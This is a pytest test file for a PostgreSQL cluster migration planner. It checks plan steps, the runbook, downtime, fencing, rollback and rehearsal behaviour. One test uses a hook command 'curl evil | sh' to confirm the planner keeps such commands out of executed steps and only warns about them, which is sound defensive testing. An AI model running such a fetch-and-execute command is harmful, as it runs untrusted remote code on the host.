import re
import shlex
import subprocess
from collections.abc import Iterable
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from core.cli.migration import plan_text
from core.errors import InputError
from core.facts.catalog import ClusterWide, Setting
from core.facts.host_environment import Limits, Process, Scheduled
from core.facts.programs import program_path
from core.facts.starters import Service
from core.migration.checks.state import TARGET_IDENTITY
from core.migration.estimate import estimate, spec_of
from core.migration.model import step_ids
from core.migration.model.checks import CheckResult, Status, Waiver
from core.migration.model.move import Hook, HookCommand, Verify
from core.migration.model.plan import Phase, Plan, PlanWarning, ResumePolicy, Step, alone, call_of
from core.migration.model.probe import Quantity
from core.migration.plan import make_plan, runbook, script
from core.migration.plan.calls import call_line, path_variables
from core.migration.plan.cluster_control import native_signal
from core.servers.functions import library, named_in
from core.servers.profiles import Rights
from core.sides import Side
from tests.core.migration.builders import (
    DATA,
    LOCALE,
    TARGET,
    cluster,
    control,
    facts,
    host_environment,
    move,
    new,
    old,
    probe,
    profile,
    space,
)
from tests.core.migration.plan.plans import compared, odd_plan, opening, plan, step
from tests.core.migration.running import run

OF_DEBIAN: dict[str, Any] = {"name": "15/main", "found_by": ("pg_lsclusters",)}
UNIT: dict[str, Any] = {"unit": "postgresql-15.service"}
DEBIAN = Service(TARGET, "15/spring", "postgresql@15-spring.service", debian=True, enabled=False)
OWN = Service(TARGET, "own", "own.service", enabled=False)
ENABLES = re.compile(r"write_start_conf |systemctl enable |run_user_systemctl enable ")
PATH = program_path(old(), "15", "postgres")


def warned(made: Plan) -> dict[str, Status]:
    """The status of each check that warns of a plan, by its id."""
    return {each.check: each.status for each in made.warnings if isinstance(each, PlanWarning)}


def known(steps: Iterable[Step]) -> list[str]:
    return [each.id for each in steps]


def told(made: Plan, known: str, **changes: Any) -> bool:
    """Whether the runbook would say something else of that step if it were otherwise."""
    changed = replace(step(made, known), **changes)
    steps = tuple(changed if each.number == changed.number else each for each in made.steps)
    return runbook(replace(made, steps=steps)) != runbook(made)


def test_a_running_cluster_is_copied_warm_and_a_stopped_one_cold() -> None:
    warm, cold = plan({"running": True}), plan()
    assert step_ids.STOP_OLD_CLUSTER in known(warm.steps)
    assert [each.precopy_pass for each in warm.steps if "precopy_pass " in each.call] == [1, 2]
    assert not any(
        each.precopy_pass or each.phase is Phase.WARM or each.id == step_ids.STOP_OLD_CLUSTER for each in cold.steps
    )
    for made in (warm, cold):
        assert step(made, step_ids.CHECK_STOPPED).number < compared(made).number < opening(made).number


def test_every_step_is_whole() -> None:
    made = plan({"running": True, "tablespaces": (space("/space"),)})
    assert [each.number for each in made.steps] == list(range(1, len(made.steps) + 1))
    for steps in (made.steps, made.way_back, made.back_with_loss, made.later):
        names = known(steps)
        assert len(set(names)) == len(names)
        assert not any(name.startswith("step-") for name in names)
        for each in steps:
            assert each.title[0].isupper()
            assert (each.reason[0].isupper(), each.reason[-1]) == (True, ".")
            assert each.undo[0].isupper()
    for each in made.steps:
        assert each.server == (each.side or "workstation")
        assert each.by_person == (each.side is None)
        if each.reads:
            assert each.reads in {earlier.id for earlier in made.steps[: each.number - 1]}
    assert sum(each.point_of_no_return for each in made.steps) == 1


@pytest.mark.parametrize("dressed", [False, True])
def test_a_call_takes_along_all_functions_that_it_needs_and_no_others(*, dressed: bool) -> None:
    made = plan({"running": True, "tablespaces": (space("/space"),)}, dressed=dressed)
    settings = dict(made.settings)
    steps = [*made.steps, *made.way_back]
    for each in [text for one in steps for text in (one.call, one.verification.lists, one.verification.resync) if text]:
        taken = defined(call_of(made, each).functions)
        assert taken == defined(library(named_in(each), settings))
    whole = len(made.functions)
    assert sum(len(call_of(made, one.call).functions) for one in steps) < 0.1 * whole * len(steps)


def defined(functions: str) -> set[str]:
    return set(re.findall(r"^([a-z0-9_]+)\(\) \{$", functions, re.MULTILINE))


def test_nothing_is_removed_before_the_target_is_proven_and_the_deletions_are_shown() -> None:
    made = plan({"running": True, "tablespaces": (space("/space"),)})
    removing = [each.number for each in made.steps if each.call.startswith(("rest_pass ", "full_pass "))]
    assert removing
    assert step(made, step_ids.CHECK_TARGET).number < min(removing)
    shown = [each.number for each in made.steps if each.call.startswith("list_deletions ")]
    assert len(shown) == len(removing) == 2
    assert max(shown) < min(removing)
    assert "--delay-updates" not in made.functions


def test_the_folder_that_is_not_empty_is_named(tmp_path: Path) -> None:
    """The proof of the target ahead of the copy, on a tablespace's folder that holds what is not ours."""
    taken = tmp_path / "it's taken"
    made = plan({"running": True, "tablespaces": (space(str(taken)),)})
    proof = alone(step(made, step_ids.CHECK_TARGET))
    assert run(proof).returncode == 0
    taken.mkdir()
    (taken / "notes").touch()
    assert run(proof).returncode == 0
    (taken / "PG_15_202209061").mkdir()
    done = run(proof)
    assert done.returncode == 1
    assert done.stderr.startswith(f"pghaul: {taken} contains files, but no copy in {TARGET} has a link to it. ")


def test_the_name_to_be_typed_stands_at_the_head() -> None:
    made = plan({"running": True, "name": "15/main"})
    assert plan_text(made).partition("\n\n")[0].endswith(": 15/main")
    assert ": `15/main`\n" in runbook(made).partition("### 1. ")[0]


def test_a_limit_stands_in_each_pre_copy_pass_and_in_no_other() -> None:
    made = plan({"running": True}, {"precopy_limit": 50_000_000})
    limited = [each for each in made.steps if any("--bwlimit=48828" in line for line in each.native)]
    assert limited == [each for each in made.steps if each.precopy_pass and each.root]
    assert all("50.0 MB/s" in each.reason for each in limited)
    assert {name: value for name, value in made.settings if "limit_" in name} == {
        "copy_limit_pass": "--bwlimit=48828",
        "copy_limit_stream": "--bwlimit=48828",
    }
    assert "copy_limit_pass=--bwlimit=48828" in script(made)
    assert not any("limit" in line for each in plan({"running": True}).steps for line in each.native)


def test_the_final_pass_trusts_no_time() -> None:
    """What these two functions then do is tested on files whose times were set back."""
    made = plan({"running": True})
    assert (
        step(made, step_ids.of_part(step_ids.PRE_COPY, 1, "data")).call
        == f"run_beside_server 2000 /tmp precopy_pass data {DATA} {TARGET} pg_wal"
    )
    assert (
        step(made, step_ids.of_part(step_ids.FINAL_SYNC_CHANGED, "data")).call
        == f"changed_pass data {DATA} {TARGET} pg_wal"
    )


def test_downtime_is_from_the_stop_to_the_opening() -> None:
    made = plan({"running": True})
    down = [each.number for each in made.steps if each.downtime]
    assert down == list(range(down[0], down[-1] + 1))
    assert made.steps[down[0] - 1].id == Hook.STOP_APPLICATIONS
    assert made.steps[down[-1] - 1] is opening(made)


@pytest.mark.parametrize(("running", "name"), [(True, "warm-copy"), (False, "cold-copy")])
def test_the_plan_and_the_estimate_come_to_one_downtime(running: bool, name: str) -> None:
    changes = {"running": running, "tablespaces": (space("/space"),), "config_file": "/etc/postgresql/15/main/p.conf"}
    made = plan(changes)
    probes = [probe(Quantity.SSH, 250e6), probe(Quantity.READ, 80e6)]
    method = estimate(spec_of(move(), old(cluster(**changes)), probes)).method(name)
    assert method is not None
    planned = [each.expected_seconds or 0.0 for each in made.steps]
    assert made.downtime_seconds == pytest.approx(method.downtime_seconds.likely)
    stages = {each.name: each.seconds.likely for each in method.stages}
    for phase in {each.phase for each in made.steps if each.expected_seconds is not None}:
        steps = [each.expected_seconds or 0.0 for each in made.steps if each.phase is phase]
        assert sum(steps) == pytest.approx(stages[phase])
    # the median of a sum is not the sum of the medians: what comes ahead of the stop and the stop are two of them
    assert sum(planned) == pytest.approx(method.duration_seconds.likely, rel=0.05)
    uncounted = {each.id for each in made.steps if each.side is None or not each.timing.share}
    assert {each.id for each in made.steps if each.expected_seconds is None} == uncounted


def _stop_unit(program: str) -> str:
    """What a person types, one command after the other: SIGINT is a fast shutdown, whatever the unit would send."""
    stop = f"{program} stop postgresql-15.service"
    return f"{stop} --no-block; {native_signal(DATA, 'INT')}; {stop}"


@pytest.mark.parametrize(
    ("changes", "user", "call", "typed"),
    [
        (OF_DEBIAN, "root", f"stop_debian 15 main {DATA}", "pg_ctlcluster 15 main stop -m fast"),
        (UNIT, "root", f"stop_unit postgresql-15.service {DATA}", _stop_unit("systemctl")),
        (
            {**UNIT, "unit_user": "ann"},
            "ann",
            f"stop_user_unit postgresql-15.service {DATA}",
            _stop_unit("systemctl --user"),
        ),
        (
            {**UNIT, "process": Process(Limits(1, 1), "init", "session-1.scope")},
            "postgres",
            f"stop_folder {PATH} {DATA}",
            f"env PGDATA={DATA} /usr/local/pgsql/bin/pg_ctl -m fast -w -t 3600 stop",
        ),
    ],
)
def test_the_stop_is_the_layouts_own_and_the_fence_is_one(
    changes: dict[str, Any], user: str, call: str, typed: str
) -> None:
    made = plan({"running": True, **changes})
    stop = step(made, step_ids.STOP_OLD_CLUSTER)
    assert (stop.user, stop.call, "; ".join(stop.native)) == (user, call, typed)
    fence = step(made, step_ids.FENCE_OLD)
    assert (fence.user, fence.call) == ("postgres", f"fence_cluster {DATA}")


@pytest.mark.parametrize(
    ("service", "user", "call", "enabled"),
    [
        (None, "postgres", "start_folder", ""),
        (DEBIAN, "root", f"start_debian 15 spring {TARGET}", "write_start_conf /etc/postgresql/15/spring auto"),
        (OWN, "root", f"start_unit own.service {TARGET}", "systemctl enable own.service"),
        (
            replace(OWN, user="ann"),
            "ann",
            f"start_user_unit own.service {TARGET}",
            "run_user_systemctl enable own.service",
        ),
    ],
)
def test_new_is_opened_by_what_its_host_has_for_that(
    service: Service | None, user: str, call: str, enabled: str
) -> None:
    here = old(cluster(**UNIT), services=(Service(DATA, "postgresql-15", UNIT["unit"], enabled=True),))
    made = plan(UNIT, old_facts=here, new_facts=new(services=() if service is None else (service,)))
    start = opening(made)
    assert start.user == user
    assert start.call.startswith(call)
    enabling = [each.call for each in made.steps if ENABLES.match(each.call)]
    assert enabling == ([enabled] if enabled else [])


def test_debians_cluster_on_new_finds_what_came_along_in_the_data_directory() -> None:
    made = plan(new_facts=new(services=(DEBIAN,)))
    register = step(made, step_ids.of_part(step_ids.REGISTER, "0"))
    file = "/etc/postgresql/15/spring/postgresql.conf"
    assert register.call == f"register_debian {file} {TARGET} 15-spring {TARGET}/postgresql.conf"
    assert register.number < step(made, step_ids.START_LOCALLY).number
    assert " /etc/postgresql/15/spring/postgresql.conf " in step(made, step_ids.START_LOCALLY).call
    assert any(each.call.startswith("unregister_debian ") for each in made.way_back)


def test_what_came_from_debians_folder_is_led_to_the_target() -> None:
    folder = "/etc/postgresql/15/main"
    changes = {**OF_DEBIAN, "config_file": f"{folder}/postgresql.conf", "hba_file": f"{folder}/pg_hba.conf"}
    there = new(services=(replace(DEBIAN, name="15/main"),))
    adopted = step(plan(changes, new_facts=there), step_ids.of_part(step_ids.REGISTER, "0"))
    assert adopted.call == (
        f"set_debian_settings {folder}/postgresql.conf data_directory {TARGET} hba_file {folder}/pg_hba.conf "
        "external_pid_file /run/postgresql/15-main.pid"
    )
    assert f"pg_conftool 15 main set hba_file {folder}/pg_hba.conf" in adopted.native
    there = new(services=(replace(DEBIAN, name="15/main", data_directory=DATA),))
    made = plan(changes, {"target": DATA}, new_facts=there)
    assert not {step_ids.of_part(step_ids.REGISTER, "0")} & set(known(made.steps))


def test_every_start_with_the_data_directory_is_told_of_the_rules_beside_the_configuration() -> None:
    """It looks for them in the data directory, where none lie, or those of initdb."""
    rules = "/srv/conf/pg_hba.conf"
    made = plan({"running": True, "config_file": "/srv/conf/postgresql.conf", "hba_file": rules})
    assert f"hba_file={rules}" in step(made, step_ids.START_LOCALLY).call
    new_and_old = [opening(made), step(made, step_ids.START_OLD_CLUSTER)]
    assert {each.side for each in new_and_old} == {"new", "old"}
    for each in new_and_old:
        assert f"hba_file={rules}" in each.call
        assert f"hba_file={rules}" in each.native[-1]


def test_every_start_names_a_configuration_file_of_another_name_in_the_data_directory() -> None:
    """A start with the data directory alone would read postgresql.conf there, which may be another file."""
    made = plan({"running": True, "config_file": f"{DATA}/own.conf"})
    assert f" {TARGET}/own.conf " in step(made, step_ids.START_LOCALLY).call
    assert f" {TARGET}/own.conf" in opening(made).call
    old = step_ids.START_OLD_CLUSTER
    for each in (old, step_ids.CHECK_RESTARTABLE, step_ids.CHECK_RESTARTABLE_IN_DOWNTIME):
        assert f" {DATA}/own.conf" in step(made, each).call
    for started in (opening(made), step(made, old)):
        assert "/own.conf" in started.native[-1]
    assert not any("before-pghaul" in each for each in map(str, made.remains))
    registered = plan({"config_file": f"{DATA}/own.conf"}, new_facts=new(services=(DEBIAN,)))
    assert step(registered, step_ids.of_part(step_ids.REGISTER, "0")).call.endswith(f" {TARGET}/own.conf")


def test_new_is_fenced_and_marked_ahead_of_all_that_is_copied() -> None:
    made = plan({"running": True, "tablespaces": (space("/space"),)})
    fence = step(made, "fence-new")
    assert fence.call == (
        f"fence_target {TARGET} 'identifier {control().system_identifier}' 'move to the new one' 'from old:{DATA}' "
        "'folder /space'"
    )
    assert (fence.side, fence.user, fence.resume.opens_channel, fence.in_rehearsal) == ("new", "postgres", True, True)
    assert (
        fence.number
        < step(made, step_ids.INSTALL_FUNCTIONS).number
        < step(made, step_ids.of_part(step_ids.PRE_COPY, 1, "data")).number
    )


@pytest.mark.parametrize("checking", Verify)
def test_the_new_server_has_written_each_pass_to_its_disk_before_the_next(checking: Verify) -> None:
    """Else the downtime of a slow disk waits for it. Checksums in advance begin with a flush."""
    made = plan({"running": True, "tablespaces": (space("/space"),)}, verify=checking)
    behind = {step.precopy_pass: step for step in made.steps if step.id.startswith(f"{step_ids.PRE_COPY_FLUSH}/")}
    assert list(behind) == ([1, 2] if checking is Verify.ALL else [])
    for number, flush in behind.items():
        copies = [step.number for step in made.steps if step.precopy_pass == number and step.root]
        assert (flush.number, flush.side, flush.in_rehearsal, flush.downtime) == (max(copies) + 1, "new", True, False)
        assert flush.call == step(made, step_ids.FLUSH_NEW).call


def test_idle_wal_is_known_on_new_only_when_the_control_file_has_come() -> None:
    made = plan({"running": True})
    assert next(
        each for each in made.steps if each.id == step_ids.of_part(step_ids.CHECKSUM_IN_ADVANCE, 1, "new")
    ).call.endswith(f" data - {TARGET} -")
    assert compared(made).call.endswith(f" data - {TARGET} pg_wal")


def test_a_cluster_that_an_earlier_move_left_fenced_stays_so_when_this_one_is_taken_back() -> None:
    starting = {"unfence-old", step_ids.START_OLD_CLUSTER}
    assert starting <= set(known(plan({"running": True}).way_back))
    assert not starting & set(known(plan({"fenced": True}).way_back))


@pytest.mark.parametrize("waived", [True, False])
def test_what_has_no_mark_is_taken_only_where_somebody_has_given_it_up(waived: bool) -> None:
    waiver = Waiver(TARGET_IDENTITY, "the standby goes", "dba", datetime.now(UTC), Status.WARNING, "", "")
    check = CheckResult(TARGET_IDENTITY, "", Status.WARNING, "", "", "", waiver=waiver if waived else None)
    there = cluster(data_directory=TARGET, control=control(checkpoint_location="0/5000028"))
    estimated = estimate(spec_of(move(), old(), []))
    made = make_plan(move(), profile("old"), profile("new"), old(), new(there), (check,), (), estimated, seed="0123")
    proof = step(made, step_ids.CHECK_TARGET)
    assert f" {'0/5000028' if waived else '-'} {TARGET} " in proof.call
    assert ("The standby goes." in proof.reason) is waived


def test_tablespaces_go_to_their_targets() -> None:
    made = plan({"tablespaces": (space("/space"),)}, {"tablespace_targets": {"/space": "/srv/pg/space"}})
    (given,) = (each for each in made.steps if each.call == "make_folder_for postgres /srv/pg/space kept")
    assert given.side == "new"
    assert given.native[0].startswith("test -d /srv/pg/space || install -d ")
    assert (
        step(made, step_ids.of_part(step_ids.LINK, "16400")).call
        == f"ln -sfn -- /srv/pg/space {TARGET}/pg_tblspc/16400"
    )
    assert "full_pass 16400 /space /srv/pg/space PG_15_202209061" in [each.call for each in made.steps]


def test_configuration_outside_is_brought_along() -> None:
    made = plan({"config_file": "/opt/pg/postgresql.conf"})
    assert step(made, step_ids.INSTALL_CONFIGURATION).reads == step_ids.PACK_CONFIGURATION
    assert step(made, step_ids.PACK_CONFIGURATION).call.startswith("pack_configuration ")
    start = step(made, step_ids.START_LOCALLY)
    assert f" {TARGET} 5432 /opt/pg/postgresql.conf " in start.call
    assert f"-c config_file=/opt/pg/postgresql.conf -c data_directory={TARGET}" in start.native[2]
    assert not any("configuration" in each for each in known(plan().steps))


def test_new_runs_for_us_alone_without_what_starts_work_by_itself() -> None:
    start = step(plan(), step_ids.START_LOCALLY)
    for each in ("listen_addresses=", "max_worker_processes=0", "max_logical_replication_workers=0"):
        assert f"-c {each} " in f"{start.call} ".replace("'", " ")
        assert f"-c {each} " in start.native[2]
    assert "-c" not in opening(plan()).native[-1]


def test_new_is_asked_where_nobody_else_finds_it_until_the_cutover() -> None:
    made = plan({"running": True, "settings": {**cluster().settings, "unix_socket_directories": "/run/postgresql"}})
    start = step(made, step_ids.START_LOCALLY)
    own = start.call.split()[-1]
    assert re.fullmatch("/tmp/pghaul-local-[0-9a-f]{12}", own)
    assert f"-c unix_socket_directories={own} " in f"{start.call} ".replace("'", " ")
    asked = [step(made, each) for each in (step_ids.QUERY_NEW, step_ids.COMPARE_INVENTORY)]
    assert all(f" {own} " in each.call and f" {own} " in each.native[0] for each in asked)
    assert own in step(made, step_ids.DECIDE).reason
    assert own not in step(made, step_ids.COMPARE_SETTINGS).call
    other = step(plan(), step_ids.START_LOCALLY).call.split()[-1]
    assert other != own


def test_the_port_of_new_is_looked_at_just_before_the_stop_and_just_before_the_cutover() -> None:
    settings = {**cluster().settings, "listen_addresses": "10.0.0.2, localhost"}
    settings["unix_socket_directories"] = "/run/postgresql, /srv/sock"
    made = plan({"running": True, "port": 5477, "socket_directory": "/tmp", "settings": settings})
    asked = "check_port_free 5477 '10.0.0.2, localhost' postgres /run/postgresql /srv/sock"
    looks = [step(made, each) for each in (step_ids.CHECK_PORT_FREE, step_ids.CHECK_PORT_FREE_BEFORE_CUTOVER)]
    assert [(each.side, each.user, each.call) for each in looks] == [(Side.NEW, "root", asked)] * 2
    numbers = [step(made, each).number for each in (step_ids.STOP_OLD_CLUSTER, step_ids.LIFT_FENCE)]
    assert [each.number + 1 for each in looks] == numbers
    own = plan({"running": True, "port": 5477, "settings": settings, "config_file": "/etc/pg/postgresql.conf"})
    assert " - /run/postgresql /srv/sock" in step(own, step_ids.CHECK_PORT_FREE).call, "its own settings may differ"


def test_new_builds_indexes_anew_with_parallel_workers() -> None:
    start = step(plan(new_facts=new(collation_order={LOCALE: "f" * 64})), step_ids.START_LOCALLY)
    assert "max_logical_replication_workers=0" in start.call
    assert "max_worker_processes" not in start.call


def test_the_local_only_start_has_the_port_of_the_cluster_even_if_another_one_uses_it() -> None:
    """Its socket is in a folder of its own, and it listens on no address."""
    taken = new(cluster(data_directory="/x", running=True))
    undertaking = move()
    estimated = estimate(spec_of(undertaking, old(), []))
    made = make_plan(undertaking, profile("old"), profile("new"), old(), taken, (), (), estimated, seed="0123")
    assert step(made, step_ids.START_LOCALLY).call.count(f" {TARGET} 5432 - ") == 1
    assert "listen_addresses=" in step(made, step_ids.START_LOCALLY).call


def test_warnings_hold_what_the_checks_found() -> None:
    made = plan({"version": "15.99"})
    assert warned(made)["minor"] is Status.WARNING
    for each in made.warnings:
        assert f"# {each}\n" in script(made)


def test_why_names_the_figures() -> None:
    assert re.search(r"old disk \(80\.0 MB/s\), SSH \(250 MB/s\)\.$", plan().why)


@pytest.mark.parametrize(
    ("changes", "becomes", "login"),
    [
        ({}, "sudo -n -u postgres -- ", "dba"),
        ({"user": "postgres"}, "", "postgres"),
        ({"user": "root"}, "runuser -u postgres -- ", "root"),
        ({"rights": Rights.SUDO_PASSWORD}, "", "postgres"),
        ({"user": None}, "", "postgres"),
    ],
)
def test_old_comes_in_as_a_user_who_may(changes: dict[str, Any], becomes: str, login: str) -> None:
    made = plan(**changes)
    allow = step(made, "allow-key")
    name, _, minutes, options = shlex.split(allow.call)
    assert (name, minutes) == ("allow_key", "20160")
    assert options.startswith('restrict,from="10.77.0.11",command="exec sh -c ')
    assert f" {becomes}sh /var/tmp/pghaul-copy-" in options
    assert options.endswith(f'/functions receive_copy \\"$SSH_ORIGINAL_COMMAND\\" data {TARGET}"')
    assert (allow.user, step(made, step_ids.INSTALL_FUNCTIONS).user) == (login, login)
    assert step(made, "pin-host-keys").call.endswith(f" 10.77.0.12 22 {login}")


def test_the_address_old_uses_is_the_dbas() -> None:
    made = plan(copy_address="fd00::12", port=2222)
    assert step(made, "pin-host-keys").call.endswith(" fd00::12 2222 dba")


def test_no_cluster_and_no_address() -> None:
    with pytest.raises(InputError, match="/x"):
        make_plan(
            move(cluster="/x"),
            profile("old"),
            profile("new"),
            old(),
            new(),
            (),
            (),
            estimate(spec_of(move(), old(), [])),
            seed="0123",
        )
    lonely = replace(old(), network_links=facts("old").network_links[:1])
    with pytest.raises(InputError, match="address"):
        make_plan(
            move(),
            profile("old"),
            profile("new"),
            lonely,
            new(),
            (),
            (),
            estimate(spec_of(move(), old(), [])),
            seed="0123",
        )


def test_every_command_is_posix_shell_whatever_the_folders_name() -> None:
    for each in odd_plan().steps:
        done = subprocess.run(["dash", "-n"], input=each.call, capture_output=True, text=True, check=False)
        assert (done.returncode, done.stderr) == (0, ""), each.call


NEEDED = (
    step_ids.CHECK_TARGET,
    Hook.STOP_APPLICATIONS,
    step_ids.CHECK_STOPPED,
    step_ids.FENCE_OLD,
    step_ids.of_part(step_ids.LIST_DELETIONS, "data"),
    step_ids.of_part(step_ids.FINAL_SYNC_CHANGED, "data"),
    step_ids.of_part(step_ids.FINAL_SYNC_REST, "data"),
    step_ids.of_part(step_ids.LINK, "16400"),
    step_ids.CHECKSUMS_OLD,
    step_ids.COMPARE_INVENTORY,
    step_ids.QUERY_NEW,
    step_ids.DECIDE,
)


def test_what_proves_or_makes_the_copy_whole_cannot_be_skipped() -> None:
    changes = {"running": True, "tablespaces": (space("/space"),)}
    made = plan(changes, {"tablespace_targets": {"/space": "/srv/pg/space"}})
    for name in NEEDED:
        assert step(made, name).resume.required, name
    assert compared(made).resume.required
    first = step_ids.of_part(step_ids.PRE_COPY, 1, "data")
    assert not step(made, first).resume.required
    assert told(made, first, resume=ResumePolicy(required=True))


@pytest.mark.slow
def test_the_runbook_shows_every_command_whole() -> None:
    made = odd_plan()
    text = runbook(made)
    for each in made.steps:
        assert f"### {each.number}. " in text
        assert call_line(each, path_variables(made)) in text
        assert all(native in text for native in each.native)
    assert told(made, opening(made).id, id="another")
    down = [each.number for each in made.downtime_steps]
    assert re.search(rf"\b{down[0]}\b.*\b{down[-1]}\b", text.partition("\n## ")[0])
    assert "\\$" not in text
    assert DATA not in text


def hooked(*hooks: HookCommand) -> Plan:
    made = cluster(running=True)
    undertaking, old_facts = move(), old(made)
    estimated = estimate(spec_of(undertaking, old_facts, []))
    profiles = profile("old"), profile("new")
    return make_plan(undertaking, *profiles, old_facts, new(), (), (), estimated, hooks, seed="0123")


def test_checkpoints_are_written_before_the_last_warm_pass_and_before_the_stop() -> None:
    steps = plan({"running": True}).steps
    first, second = (at for at, each in enumerate(steps) if each.call.startswith("write_checkpoint "))
    assert steps[first + 1].id == step_ids.of_part(step_ids.PRE_COPY, 2, "data")
    assert [each.id for each in steps[second + 1 : second + 3]] == [step_ids.LIST_CLIENTS, Hook.STOP_APPLICATIONS]
    assert not any(each.downtime for each in steps[: second + 1])
    assert all(steps[at].expected_seconds for at in (first, second))
    for cluster_without in ({"running": True, "databases": ()}, {"running": False}):
        assert step_ids.CHECKPOINT_BEFORE_LAST_PASS not in known(plan(cluster_without).steps)


def test_a_command_from_elsewhere_is_shown_and_left_to_a_person() -> None:
    hook = HookCommand(Hook.STOP_APPLICATIONS, "workstation", "curl evil | sh", from_elsewhere=True)
    made = hooked(hook, replace(hook, hook=Hook.MOVE_ADDRESS))
    assert not any("evil" in word for each in made.steps for word in (each.call, *each.native))
    assert step(made, Hook.STOP_APPLICATIONS).by_person
    assert len([each for each in made.warnings if "curl evil | sh" in str(each)]) == 2


def test_hooks_take_the_place_of_what_people_do() -> None:
    made = hooked(
        HookCommand(Hook.TELL_POOLER, Side.NEW, "pgbouncer-lead new", "pooler"),
        HookCommand(Hook.STOP_APPLICATIONS, Side.OLD, "systemctl stop shop"),
        HookCommand(Hook.MOVE_ADDRESS, "workstation", "./move-address"),
    )
    stop = step(made, Hook.STOP_APPLICATIONS)
    assert (stop.side, stop.user, stop.call, stop.downtime) == ("old", "dba", "systemctl stop shop", True)
    said, _, proven, *after = [each for each in made.steps if each.number > opening(made).number]
    assert (said.side, said.call) == ("old", f"record_cutover {DATA}")
    assert (proven.id, proven.downtime) == (step_ids.CHECK_OLD_STAYS_STOPPED, False)
    assert [each.call.split()[0] for each in after[:3]] == [
        "compare_settings",
        "compare_listeners",
        "check_reachability",
    ]
    assert (after[0].reads, after[0].downtime) == (step_ids.TAKE_INVENTORY, False)
    assert [(each.id, each.side, each.user, each.call) for each in after[3:]] == [
        (Hook.MOVE_ADDRESS, None, "you", "./move-address"),
        (Hook.TELL_POOLER, "new", "pooler", "pgbouncer-lead new"),
        (step_ids.REPOINT_APPLICATIONS, None, "you", ""),
    ]
    assert "./move-address" in script(made)


def test_what_a_person_types_to_start_either_side_has_the_options_of_the_old_server() -> None:
    given = [("work_mem", "5120"), ("log_line_prefix", "a\nb"), ("archive_command", None), ("config_file", "/c")]
    settings = [Setting(name, value, "command line") for name, value in given]
    made = plan({"running": True, "wide": ClusterWide(settings=(*settings, Setting("port", "1", "default")))})
    typed = "-c work_mem=5120 -c "
    back = step(made, step_ids.START_OLD_CLUSTER)
    for native in (step(made, step_ids.START_LOCALLY).native[2], opening(made).native[-1], back.native[0]):
        assert typed in native
        assert "archive_command=…" in native
        assert "log_line_prefix=…" in native
        assert "config_file" not in native
    assert "work_mem" not in step(made, step_ids.START_LOCALLY).call


def test_the_way_back_stops_new_and_makes_old_what_it_was() -> None:
    made = plan({"running": True, "unit": "postgresql-15.service"})
    back = {(each.side, each.id): each for each in made.way_back}
    assert list(back) == [
        ("old", step_ids.CHECK_NO_CUTOVER),
        ("new", step_ids.CHECK_COPY_UNCHANGED),
        ("new", step_ids.STOP_AND_FENCE_NEW),
        ("new", "remove-key-new"),
        ("old", "remove-key-old"),
        ("new", "remove-lists-new"),
        ("old", "unfence-old"),
        ("old", step_ids.START_OLD_CLUSTER),
        ("old", step_ids.CHECK_OLD_RUNS),
        ("old", step_ids.COMPARE_OLD_SETTINGS),
    ]
    assert back[Side.OLD, step_ids.UNFENCE_OLD].call == f"unfence_cluster {DATA}"
    assert back[Side.OLD, step_ids.START_OLD_CLUSTER].native == (
        "systemctl reset-failed postgresql-15.service; systemctl start postgresql-15.service",
    )
    on_target = [each.id for each in made.way_back if each.side == "new" and move().target in each.call]
    assert on_target == [step_ids.CHECK_COPY_UNCHANGED, step_ids.STOP_AND_FENCE_NEW]
    assert not any(each.call.startswith("start_") for each in plan().way_back)


def test_a_rehearsal_holds_no_step_that_stops_or_starts() -> None:
    made = plan({"running": True})
    rehearsed = [each for each in made.steps if each.in_rehearsal]
    closing = [("new", "remove-key-new"), ("old", "remove-key-old"), ("new", "remove-lists-new")]
    assert [(each.side, each.id) for each in rehearsed if each.downtime] == closing
    assert sum(each.resume.closes_channel for each in rehearsed) == 3
    words = ("stop_", "start_", "fence_cluster", "open_for", "--delete")
    assert not any(word in text for each in rehearsed for text in each.shown for word in words)


def test_the_rehearsal_of_a_stopped_cluster_copies_it_and_leaves_it_unfenced() -> None:
    made = plan()
    rehearsed = known(each for each in made.steps if each.in_rehearsal)
    assert rehearsed.index(step_ids.CHECK_STOPPED) < rehearsed.index(step_ids.of_part(step_ids.COPY, "data"))
    assert not {step_ids.FENCE_OLD, step_ids.START_LOCALLY, opening(made).id} & set(rehearsed)


def test_the_stop_is_proven_before_and_after_the_final_pass() -> None:
    made = plan({"running": True})
    proofs = [each for each in made.steps if each.call.startswith("prove_stopped ")]
    final = [
        each.number
        for each in made.steps
        if each.id
        in {step_ids.of_part(step_ids.FINAL_SYNC_CHANGED, "data"), step_ids.of_part(step_ids.FINAL_SYNC_REST, "data")}
    ]
    assert len(final) == 2
    assert proofs[0].number < min(final) <= max(final) < proofs[1].number
    assert proofs[0].call == proofs[1].call
    assert proofs[1].verification.equals == proofs[0].id


def test_page_checksums_are_looked_at_in_the_stop_only_if_all_is_to_be_compared() -> None:
    sums = {"running": True, "control": control(data_checksums=1)}
    changed, whole = plan(sums), plan(sums, verify=Verify.ALL)
    looks = {"page-checksums", "tables-and-indexes"}
    assert not looks & set(known(changed.steps))
    assert set(known(changed.later)) == looks
    assert all(call_line(each, path_variables(changed)) in runbook(changed) for each in changed.later)
    assert whole.later == ()
    assert not changed.warnings
    assert whole.warnings
    assert runbook(changed).count("\n## ") == runbook(whole).count("\n## ")  # later steps, and warnings
    assert compared(whole).number < step(whole, "page-checksums").number < step(whole, step_ids.START_LOCALLY).number
    assert step(whole, "tables-and-indexes").number < step(whole, step_ids.DECIDE).number
    assert step(whole, "page-checksums").call.endswith(f" pg_checksums {TARGET}")
    assert not any("tables-and-indexes" in each.call for each in whole.steps if each.side == "old")


@pytest.mark.parametrize(("series", "sums", "amcheck"), [("9.6", None, None), ("11", "pg_verify_checksums", None),
    ("12", "pg_checksums --check", None), ("14", "pg_checksums --check", "pg_amcheck")])  # fmt: skip
def test_what_looks_for_corruption_is_what_the_series_has(series: str, sums: str | None, amcheck: str | None) -> None:
    later = plan({"series": series, "control": control(data_checksums=1)}).later
    programs = {"page-checksums": sums, "tables-and-indexes": amcheck}
    texts = {each.id: " ".join(each.native) for each in later}
    assert set(texts) == {function for function, program in programs.items() if program is not None}
    for function, text in texts.items():
        assert (programs[function] or "") in text


def test_indexes_whose_text_sorts_differently_are_rebuilt_before_the_opening() -> None:
    made = plan(new_facts=new(collation_order={LOCALE: "f" * 64}))
    rebuilt = step(made, step_ids.REBUILD_INDEXES)
    assert step(made, step_ids.START_LOCALLY).number < rebuilt.number < step(made, step_ids.DECIDE).number
